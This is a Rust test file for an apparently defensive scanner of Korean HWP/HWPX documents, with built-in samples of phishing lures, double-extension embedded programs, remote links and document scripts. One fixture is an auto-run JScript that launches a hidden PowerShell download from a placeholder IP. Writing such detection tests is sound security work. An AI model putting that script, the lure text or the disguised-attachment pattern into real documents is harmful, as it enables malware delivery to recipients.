//! Whole-document tests: HWP 5 compound files, HWPX zips, HWPML and HWP 3 built in code, inert
//! (an EPS whose hex string is filler, a script that names ActiveXObject but is never run, a "program"
//! that is "MZ" and zeros).

use super::body::tests::{hyperlink, ole_control, paragraph};
use super::docinfo::tests::{embedded, linked, stream as docinfo};
use super::header::bit;
use crate::office::ole::tests::{cfb_file, ids, run};
use crate::Node;
use spearwatch_core::Severity;
use std::io::Write;

pub(crate) fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn file_header(flags: u32) -> Vec<u8> {
    let mut h = vec![0u8; 256];
    h[..17].copy_from_slice(b"HWP Document File");
    h[32..36].copy_from_slice(&0x0500_0304u32.to_le_bytes());
    h[36..40].copy_from_slice(&flags.to_le_bytes());
    h
}

/// An HWP 5 document: `FileHeader` with `flags`, then `(path, content)` streams, deflated when the
/// compressed bit is set (except `DocOptions/*`, `PrvText` and streams given already encoded with a
/// leading `!`).
pub(crate) fn hwp5(flags: u32, streams: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let header = file_header(flags);
    let mut owned: Vec<(String, Vec<u8>)> = vec![("/FileHeader".into(), header)];
    for (p, d) in streams {
        let (path, raw) = match p.strip_prefix('!') {
            Some(p) => (p, true),
            None => (*p, false),
        };
        let plain = raw || path.starts_with("/DocOptions") || path == "/PrvText";
        let data = if flags & bit::COMPRESSED != 0 && !plain {
            deflate(d)
        } else {
            d.clone()
        };
        owned.push((path.to_string(), data));
    }
    let refs: Vec<(&str, &[u8])> = owned
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    cfb_file(&refs)
}

fn png() -> Vec<u8> {
    let mut p = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR".to_vec();
    p.resize(200, 0);
    p
}

fn finding<'a>(n: &'a Node, id: &str) -> Option<&'a spearwatch_core::Finding> {
    n.all_findings().find(|f| f.id == id)
}

fn worst(n: &Node) -> Severity {
    n.all_findings()
        .map(|f| f.severity)
        .max()
        .unwrap_or(Severity::Info)
}

#[test]
fn benign_document_with_text_and_picture() {
    let mut sec = paragraph("안녕하세요. 다음 주 회의 자료를 보내 드립니다.");
    sec.extend(paragraph("감사합니다."));
    let doc = hwp5(
        bit::COMPRESSED,
        &[
            ("/DocInfo", docinfo(&[embedded(1, "png", false)])),
            ("/BodyText/Section0", sec),
            ("/BinData/BIN0001.png", png()),
            (
                "/Scripts/DefaultJScript",
                super::script::tests::stream(super::script::tests::TEMPLATE),
            ),
            ("/Scripts/JScriptVersion", vec![1, 0, 0, 0, 0, 0, 0, 0]),
            ("/DocOptions/_LinkDoc", vec![0u8; 524]),
        ],
    );
    let n = run(&doc, "회의자료.hwp");
    assert_eq!(
        n.format.as_deref(),
        Some("HWP 5.0.3.4 document, compressed, 1 section, 1 BinData (1 picture), empty script template")
    );
    assert!(n.text.contains("다음 주 회의 자료"), "{}", n.text);
    assert!(n.children.iter().any(|c| c.name == "BinData/BIN0001.png"));
    assert!(worst(&n) <= Severity::Low, "{:?}", ids(&n));
    assert_eq!(finding(&n, "hwp.script").unwrap().severity, Severity::Info);
    assert!(!n.has("hwp.malformed"), "{:?}", n.findings);
}

#[test]
fn korean_tax_lure_reaches_node_text() {
    let lure = "[국세청] 2024년 귀속 종합소득세 환급금 안내: 첨부된 신청서를 작성하여 홈택스에 제출하십시오.";
    let doc = hwp5(
        bit::COMPRESSED,
        &[
            ("/DocInfo", docinfo(&[])),
            ("/BodyText/Section0", paragraph(lure)),
        ],
    );
    let n = run(&doc, "환급안내.hwp");
    assert!(n.text.contains(lure), "{}", n.text);
}

#[test]
fn eps_with_exploit_traits_is_critical() {
    let doc = hwp5(
        bit::COMPRESSED,
        &[
            ("/DocInfo", docinfo(&[embedded(1, "eps", false)])),
            ("/BodyText/Section0", paragraph("보도자료")),
            ("/BinData/BIN0001.eps", super::eps::tests::exploit_like()),
        ],
    );
    let n = run(&doc, "a.hwp");
    let f = finding(&n, "hwp.eps_exploit").expect("eps exploit");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.techniques.iter().any(|t| t == "T1203"));
    assert!(n.format.as_deref().unwrap().contains("1 BinData (1 EPS)"));
    assert!(!n.has("hwp.eps"));

    let doc = hwp5(
        0,
        &[
            ("/DocInfo", docinfo(&[embedded(1, "eps", false)])),
            ("/BodyText/Section0", paragraph("x")),
            ("/BinData/BIN0001.eps", super::eps::tests::plain()),
        ],
    );
    let n = run(&doc, "a.hwp");
    assert_eq!(finding(&n, "hwp.eps").unwrap().severity, Severity::Medium);
    assert!(!n.has("hwp.eps_exploit"));
}

/// The fingerprints of the tree's object named `*name`.
fn fingerprints_of(n: &Node, name: &str) -> Vec<crate::Fingerprint> {
    n.iter()
        .find(|c| c.name.ends_with(name))
        .unwrap_or_else(|| {
            panic!(
                "no {name} in {:?}",
                n.iter().map(|c| &c.name).collect::<Vec<_>>()
            )
        })
        .fingerprints
        .clone()
}

#[test]
fn postscript_fingerprint_survives_comments_spacing_and_the_binary_header() {
    let eps = super::eps::tests::exploit_like();
    // Re-saved: other DSC comments, CRLF line endings, indentation; then wrapped in a DOS EPS binary
    // header with a preview image after the PostScript.
    let text = String::from_utf8(eps.clone()).unwrap();
    let resaved = text
        .replace("%%BoundingBox: 0 0 100 100\n", "%%Creator: Adobe Illustrator\n%%CreationDate: 2026-11-24\n%%BoundingBox: 0 0 100 100\n")
        .replace("\n", "\r\n  ");
    let mut dos = vec![0xC5, 0xD0, 0xD3, 0xC6];
    let ps_len = resaved.len() as u32;
    for v in [30u32, ps_len, 0, 0, 30 + ps_len, 16] {
        dos.extend_from_slice(&v.to_le_bytes());
    }
    dos.extend_from_slice(&[0xFF, 0xFF]);
    dos.extend_from_slice(resaved.as_bytes());
    dos.extend_from_slice(b"II*\0preview-bytes");
    // No comment lines at all, so no `%!PS` magic: EPS only by its BinData extension.
    let bare: String = text
        .lines()
        .filter(|l| !l.starts_with('%'))
        .collect::<Vec<_>>()
        .join("\n");
    assert!(!bare.starts_with("%!PS"));

    let doc = hwp5(
        bit::COMPRESSED,
        &[
            (
                "/DocInfo",
                docinfo(&[
                    embedded(1, "eps", false),
                    embedded(2, "eps", false),
                    embedded(3, "eps", false),
                ]),
            ),
            ("/BodyText/Section0", paragraph("보도자료")),
            ("/BinData/BIN0001.eps", eps.clone()),
            ("/BinData/BIN0002.eps", dos.clone()),
            ("/BinData/BIN0003.eps", bare.into_bytes()),
        ],
    );
    let n = run(&doc, "a.hwp");
    let one = fingerprints_of(&n, "BIN0001.eps");
    assert_eq!(one.len(), 1, "{one:?}");
    assert_eq!(one[0].kind, crate::FingerprintKind::PostScript);
    assert_eq!(fingerprints_of(&n, "BIN0002.eps"), one);
    assert_eq!(fingerprints_of(&n, "BIN0003.eps"), one);
    // A standalone EPS attachment gets the same fingerprint; another program does not.
    let alone = run(&dos, "figure.eps");
    assert_eq!(alone.detected_type, crate::Kind::PostScript);
    assert_eq!(alone.fingerprints, one);
    let other = run(&super::eps::tests::plain(), "figure.eps");
    assert_eq!(other.fingerprints.len(), 1);
    assert_ne!(other.fingerprints, one);
}

#[test]
fn document_script_with_activex_is_critical() {
    let src = "function OnDocument_Open()\r\n{\r\n  var s = new ActiveXObject(\"WScript.Shell\");\r\n  s.Run(\"powershell -w hidden -c iwr http://203.0.113.5/a\");\r\n}\r\n";
    let doc = hwp5(
        bit::COMPRESSED,
        &[
            ("/DocInfo", docinfo(&[])),
            ("/BodyText/Section0", paragraph("x")),
            ("/Scripts/DefaultJScript", super::script::tests::stream(src)),
        ],
    );
    let n = run(&doc, "a.hwp");
    let f = finding(&n, "hwp.script").unwrap();
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.techniques.iter().any(|t| t == "T1059.007"));
    assert!(f.evidence[0].value.contains("activexobject"));
    assert!(f.evidence[0]
        .note
        .as_deref()
        .unwrap()
        .contains("OnDocument_Open"));
    assert!(n.format.as_deref().unwrap().ends_with("JScript"));

    let benign = "function OnDocument_Open()\r\n{\r\n  HAction.Run(\"MoveDocBegin\");\r\n}\r\n";
    let doc = hwp5(
        0,
        &[
            ("/DocInfo", docinfo(&[])),
            (
                "/Scripts/DefaultJScript",
                super::script::tests::stream(benign),
            ),
        ],
    );
    assert_eq!(
        finding(&run(&doc, "a.hwp"), "hwp.script").unwrap().severity,
        Severity::High
    );
}

/// A Packager `\x01Ole10Native` stream whose names are CP949 in the ANSI fields and UTF-16 in the
/// Windows 7+ copies, as Korean Windows writes them.
fn korean_package(name: &str, data: &[u8]) -> Vec<u8> {
    let cp949 = |s: &str| encoding_rs::EUC_KR.encode(s).0.into_owned();
    let wide = |s: &str| {
        let u: Vec<u16> = s.encode_utf16().collect();
        let mut v = (u.len() as u32).to_le_bytes().to_vec();
        v.extend(u.iter().flat_map(|c| c.to_le_bytes()));
        v
    };
    let (source, temp) = (
        format!("C:\\Users\\user\\Desktop\\{name}"),
        format!("C:\\Users\\user\\AppData\\Local\\Temp\\{name}"),
    );
    let mut p = vec![2, 0];
    p.extend(cp949(name));
    p.push(0);
    p.extend(cp949(&source));
    p.push(0);
    p.extend_from_slice(&[0, 0, 3, 0]);
    let t = [cp949(&temp), vec![0]].concat();
    p.extend_from_slice(&(t.len() as u32).to_le_bytes());
    p.extend(t);
    p.extend_from_slice(&(data.len() as u32).to_le_bytes());
    p.extend_from_slice(data);
    p.extend(wide(&temp));
    p.extend(wide(name));
    p.extend(wide(&source));
    let mut s = (p.len() as u32).to_le_bytes().to_vec();
    s.extend(p);
    s
}

/// BinData of an OLE item: the compound file after its DWORD length.
fn ole_item(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let cfb = cfb_file(streams);
    let mut v = (cfb.len() as u32).to_le_bytes().to_vec();
    v.extend(cfb);
    v
}

#[test]
fn ole_package_program_is_extracted_under_its_korean_name() {
    let mut program = b"MZ".to_vec();
    program.resize(512, 0);
    let native = korean_package("설명서.pdf.exe", &program);
    let ole = ole_item(&[
        ("/\u{1}Ole10Native", &native),
        ("/\u{1}CompObj", b"\x01\x00\xfe\xff"),
    ]);
    let mut sec = paragraph("첨부 파일을 더블 클릭하여 확인하세요.");
    sec.extend(ole_control(1, false));
    let doc = hwp5(
        bit::COMPRESSED,
        &[
            ("/DocInfo", docinfo(&[embedded(1, "OLE", true)])),
            ("/BodyText/Section0", sec),
            ("/BinData/BIN0001.OLE", ole),
        ],
    );
    let n = run(&doc, "안내.hwp");
    assert!(n.format.as_deref().unwrap().contains("1 BinData (1 OLE)"));
    assert_eq!(
        finding(&n, "hwp.ole_object").unwrap().severity,
        Severity::Low
    );
    let ole_node = n
        .children
        .iter()
        .find(|c| c.name == "BinData/BIN0001.OLE")
        .expect("the OLE item is a child");
    assert!(ole_node.has("office.ole_package"), "{:?}", ids(ole_node));
    // The package's file name, in Hangul (the UTF-16 copy of the name, else the CP949 one).
    let exe = ole_node
        .iter()
        .find(|c| c.name.ends_with("설명서.pdf.exe"))
        .unwrap_or_else(|| panic!("{:?}", ole_node.iter().map(|c| &c.name).collect::<Vec<_>>()));
    assert!(exe.has("attachment.double_extension"), "{:?}", exe.findings);
    assert!(
        exe.has("exe.executable") || exe.has("attachment.executable"),
        "{:?}",
        exe.findings
    );
    assert!(!n.has("hwp.malformed"), "{:?}", n.findings);
}

#[test]
fn inconsistencies_are_malformed() {
    // A record whose size runs past the end of the section, and a BinData stream DocInfo does not list.
    let mut sec = paragraph("x");
    let h = 0x43u32 | (1 << 10) | (4000 << 20);
    sec.extend_from_slice(&h.to_le_bytes());
    sec.extend_from_slice(b"abcd");
    let doc = hwp5(
        0,
        &[
            ("/DocInfo", docinfo(&[embedded(1, "png", false)])),
            ("/BodyText/Section0", sec),
            ("/BinData/BIN0001.png", png()),
            ("/BinData/BIN0002.exe", b"MZ\x90\x00".to_vec()),
        ],
    );
    let n = run(&doc, "a.hwp");
    let f = finding(&n, "hwp.malformed").unwrap();
    assert_eq!(f.severity, Severity::Medium);
    let v = &f.evidence[0].value;
    assert!(v.contains("claims 4000 bytes"), "{v}");
    assert!(v.contains("BIN0002.exe is not in the DocInfo"), "{v}");
    // The hidden program is still a child, with the executable findings.
    let exe = n
        .children
        .iter()
        .find(|c| c.name == "BinData/BIN0002.exe")
        .unwrap();
    assert!(exe.has("attachment.executable"), "{:?}", exe.findings);

    // DocInfo lists an item that is not there.
    let doc = hwp5(
        0,
        &[
            ("/DocInfo", docinfo(&[embedded(7, "jpg", false)])),
            ("/BodyText/Section0", paragraph("x")),
        ],
    );
    let n = run(&doc, "a.hwp");
    let f = finding(&n, "hwp.malformed").unwrap();
    assert!(f.evidence[0].value.contains("BIN0007.jpg is missing"));
}

#[test]
fn distribution_document_view_text_is_decrypted() {
    let text = "배포용 문서: 통일부 정책 설명회 참석자 명단";
    let view = super::distribution::tests::encrypt(&deflate(&paragraph(text)), 0x0BAD_F00D);
    let doc = hwp5(
        bit::COMPRESSED | bit::DISTRIBUTION,
        &[
            ("/DocInfo", docinfo(&[])),
            ("/BodyText/Section0", paragraph("")),
            ("!/ViewText/Section0", view),
        ],
    );
    let n = run(&doc, "a.hwp");
    assert!(n.text.contains(text), "{:?}", n.text);
    let f = n.format.as_deref().unwrap();
    assert!(
        f.contains("distribution document") && f.contains("decrypted"),
        "{f}"
    );
    assert!(!n.has("hwp.malformed"), "{:?}", n.findings);
}

#[test]
fn password_document_is_encrypted_and_preview_text_is_read() {
    let preview: Vec<u8> = "미리보기 본문"
        .encode_utf16()
        .flat_map(|c| c.to_le_bytes())
        .collect();
    let doc = hwp5(
        bit::COMPRESSED | bit::PASSWORD,
        &[
            ("!/DocInfo", vec![0x55; 64]),
            ("!/BodyText/Section0", vec![0x66; 64]),
            ("/PrvText", preview),
        ],
    );
    let n = run(&doc, "a.hwp");
    let f = finding(&n, "hwp.encrypted").unwrap();
    assert_eq!(f.severity, Severity::Medium);
    assert!(f.techniques.iter().any(|t| t == "T1027.013"));
    assert!(n.encrypted);
    assert!(n.text.contains("미리보기 본문"));
    assert!(!n.has("hwp.malformed"), "{:?}", n.findings);
}

#[test]
fn remote_links_and_hyperlinks() {
    let mut link = vec![0u8; 524];
    for (i, u) in "\\\\198.51.100.7\\share\\template.hwp"
        .encode_utf16()
        .enumerate()
    {
        link[i * 2..i * 2 + 2].copy_from_slice(&u.to_le_bytes());
    }
    let mut sec = paragraph("아래 링크에서 확인하세요");
    sec.extend(hyperlink(
        "확인",
        "http\\://login.example.org/kr/auth;1;0;0;",
    ));
    let doc = hwp5(
        bit::COMPRESSED,
        &[
            (
                "/DocInfo",
                docinfo(&[linked("http://203.0.113.8/logo.jpg")]),
            ),
            ("/BodyText/Section0", sec),
            ("/DocOptions/_LinkDoc", link),
        ],
    );
    let n = run(&doc, "a.hwp");
    let f = finding(&n, "hwp.external_link").unwrap();
    assert_eq!(f.severity, Severity::High);
    let v = &f.evidence[0].value;
    assert!(
        v.contains("203.0.113.8/logo.jpg") && v.contains("198.51.100.7"),
        "{v}"
    );
    assert!(f.techniques.iter().any(|t| t == "T1187"));
    let l = finding(&n, "hwp.hyperlink").unwrap();
    assert_eq!(l.severity, Severity::Info);
    assert_eq!(l.evidence[0].value, "http://login.example.org/kr/auth");
}

fn hwpx(members: &[(&str, &[u8])]) -> Vec<u8> {
    use ::zip::write::SimpleFileOptions;
    let mut all: Vec<(&str, &[u8])> = vec![("mimetype", b"application/hwp+zip")];
    all.extend_from_slice(members);
    crate::archive::zip::tests::build(
        &all,
        SimpleFileOptions::default().compression_method(::zip::CompressionMethod::Deflated),
    )
}

const SECTION: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<hs:sec xmlns:hs="http://www.hancom.co.kr/hwpml/2011/section" xmlns:hp="http://www.hancom.co.kr/hwpml/2011/paragraph">
<hp:p><hp:run><hp:t>국세청 종합소득세 환급 안내</hp:t></hp:run></hp:p>
<hp:p><hp:run><hp:ctrl><hp:fieldBegin type="HYPERLINK"><hp:parameters><hp:stringParam name="Command">https\://hometax-kr.example.com/refund;1;0;0;</hp:stringParam></hp:parameters></hp:fieldBegin></hp:ctrl><hp:t>신청하기 &amp; 확인</hp:t></hp:run></hp:p>
</hs:sec>"#;

#[test]
fn hwpx_text_links_scripts_and_bindata() {
    let native = korean_package("설명서.pdf.exe", b"MZ\0\0\0\0\0\0");
    let ole = ole_item(&[("/\u{1}Ole10Native", &native)]);
    let script: Vec<u8> = [0xFFu8, 0xFE]
        .into_iter()
        .chain(
            "function OnDocument_Open() { new ActiveXObject(\"Shell.Application\"); }"
                .encode_utf16()
                .flat_map(|c| c.to_le_bytes()),
        )
        .collect();
    let hpf = br#"<opf:package xmlns:opf="http://www.idpf.org/2007/opf/"><opf:manifest>
<opf:item id="image1" href="BinData/image1.png" media-type="image/png" isEmbeded="1"/>
<opf:item id="tpl" href="http://203.0.113.9/t.png" media-type="image/png" isEmbeded="0"/>
</opf:manifest></opf:package>"#;
    let (png, eps) = (png(), super::eps::tests::exploit_like());
    let z = hwpx(&[
        ("version.xml", b"<hv:HCFVersion/>"),
        ("Contents/content.hpf", hpf),
        ("Contents/header.xml", b"<hh:head/>"),
        ("Contents/section0.xml", SECTION.as_bytes()),
        ("BinData/image1.png", &png),
        ("BinData/ole1.ole", &ole),
        ("BinData/image2.eps", &eps),
        ("Scripts/sourceScripts", &script),
    ]);
    let n = run(&z, "공지.hwpx");
    assert_eq!(n.detected_type, crate::Kind::Hwpx);
    assert!(n.text.contains("국세청 종합소득세 환급 안내"), "{}", n.text);
    assert!(n.text.contains("신청하기 & 확인"));
    let found = ids(&n);
    for id in [
        "hwp.script",
        "hwp.eps_exploit",
        "hwp.ole_object",
        "hwp.external_link",
        "hwp.hyperlink",
        "attachment.double_extension",
    ] {
        assert!(found.contains(&id.to_string()), "{id} missing: {found:?}");
    }
    assert_eq!(
        finding(&n, "hwp.script").unwrap().severity,
        Severity::Critical
    );
    assert_eq!(
        finding(&n, "hwp.hyperlink").unwrap().evidence[0].value,
        "https://hometax-kr.example.com/refund"
    );
    assert!(n
        .format
        .as_deref()
        .unwrap()
        .contains("3 BinData (1 EPS, 1 OLE, 1 picture)"));

    // A plain HWPX with a picture raises nothing above Low.
    let z = hwpx(&[
        ("Contents/section0.xml", SECTION.as_bytes()),
        ("BinData/image1.png", &png),
    ]);
    let n = run(&z, "a.hwpx");
    assert!(worst(&n) <= Severity::Low, "{:?}", ids(&n));
}

#[test]
fn hwpml_and_hwp3_are_legacy() {
    let eps = super::eps::tests::exploit_like();
    let b64 = {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut s = String::new();
        for c in eps.chunks(3) {
            let n = c.iter().fold(0u32, |a, &b| (a << 8) | u32::from(b)) << (8 * (3 - c.len()));
            for i in 0..=c.len() {
                s.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
            for _ in c.len()..3 {
                s.push('=');
            }
        }
        s
    };
    let xml = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><HWPML Version="2.8"><HEAD SecCnt="1"><DOCSUMMARY><TITLE>정책 자문 요청서</TITLE><AUTHOR>통일부</AUTHOR></DOCSUMMARY><DOCSETTING><BEGINNUMBER Page="1" Footnote="1" Endnote="1" Picture="1" Table="1" Equation="1" TotalPage="1"/><CARETPOS List="0" Para="0" Pos="0"/></DOCSETTING><MAPPINGTABLE><FACENAMELIST><FONTFACE Lang="Hangul" Count="2"><FONT Id="0" Type="ttf" Name="함초롬돋움"/><FONT Id="1" Type="ttf" Name="함초롬바탕"/></FONTFACE><FONTFACE Lang="Latin" Count="1"><FONT Id="0" Type="ttf" Name="함초롬돋움"/></FONTFACE></FACENAMELIST><BINDATALIST><BINITEM Type="Embedding" BinData="1" Format="eps"/></BINDATALIST></MAPPINGTABLE></HEAD><BODY><SECTION><P><TEXT><CHAR>통일부 정책 자문 요청</CHAR></TEXT></P></SECTION></BODY><TAIL><BINDATASTORAGE><BINDATA Id="1" Encoding="Base64">{b64}</BINDATA></BINDATASTORAGE></TAIL></HWPML>"#
    );
    let n = run(xml.as_bytes(), "a.hml");
    assert_eq!(n.detected_type, crate::Kind::Hwpml);
    assert!(n.text.contains("통일부 정책 자문 요청"));
    assert_eq!(
        finding(&n, "hwp.legacy_format").unwrap().severity,
        Severity::Low
    );
    assert!(n.has("hwp.eps_exploit"), "{:?}", ids(&n));

    let d = super::hwp3::tests::file("세금 환급 안내", false, b"\0\0\0%!PS-Adobe-3.0\nshowpage\n");
    let n = run(&d, "a.hwp");
    assert_eq!(n.detected_type, crate::Kind::Hwp3);
    assert!(n.text.contains("세금 환급 안내"), "{:?}", n.text);
    assert!(
        n.has("hwp.legacy_format") && n.has("hwp.eps"),
        "{:?}",
        ids(&n)
    );
    assert!(n
        .format
        .as_deref()
        .unwrap()
        .starts_with("HWP 3.00 document"));
    let n = run(&super::hwp3::tests::file("x", true, b""), "a.hwp");
    assert!(n.has("hwp.encrypted"));
}

#[test]
fn hostile_documents_do_not_panic() {
    let mut sec = paragraph("가나다");
    sec.extend(hyperlink("x", "http\\://a.example/b;1"));
    sec.extend(ole_control(1, true));
    let good = hwp5(
        bit::COMPRESSED,
        &[
            ("/DocInfo", docinfo(&[embedded(1, "eps", false)])),
            ("/BodyText/Section0", sec.clone()),
            ("/BinData/BIN0001.eps", super::eps::tests::exploit_like()),
        ],
    );
    let mut x = 0x2545_F491u32;
    for _ in 0..200 {
        let mut d = good.clone();
        for _ in 0..10 {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            let i = (x as usize) % d.len();
            d[i] = (x >> 8) as u8;
        }
        let _ = run(&d, "x.hwp");
    }
    for n in 0..sec.len() {
        let _ = super::fuzz_records(&sec[..n]);
        let mut m = sec.clone();
        m[n] ^= 0xFF;
        let _ = super::fuzz_records(&m);
    }
    assert!(super::fuzz_records(&sec) > 0);
}
